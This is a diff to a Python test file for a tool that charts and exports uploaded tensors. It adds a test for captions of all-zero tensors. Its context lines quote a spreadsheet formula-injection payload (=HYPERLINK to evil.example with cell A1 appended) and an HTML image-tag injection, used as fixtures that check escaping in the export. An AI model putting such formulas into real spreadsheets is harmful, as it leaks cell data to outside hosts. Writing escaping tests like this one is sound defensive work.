@@ -434,3 +434,9 @@ def test_a_hostile_tensor_name_shows_as_written_and_its_csv_never_holds_a_formul
     assert neighbour["data"][0]["name"] == charts.literal(name)  # Plotly draws markup in names: escaped, it reads as written
     rows = describe.figure_csv(go.Figure(neighbour)).splitlines()
     assert rows[1].startswith('"\'=HYPERLINK(""http://evil.example/?q=""&A1,""Click"")<img src=x>$1$",')
+
+
+def test_a_table_of_zeros_says_what_is_true_of_its_norms():
+    at = upload("zeros.safetensors", safetensors.numpy.save({"pos": np.zeros((16, 8), np.float32)}))
+    assert_clean(at)
+    assert "all zeros, as the median row is" in [c.value for c in at.caption]  # not "nan× the median"
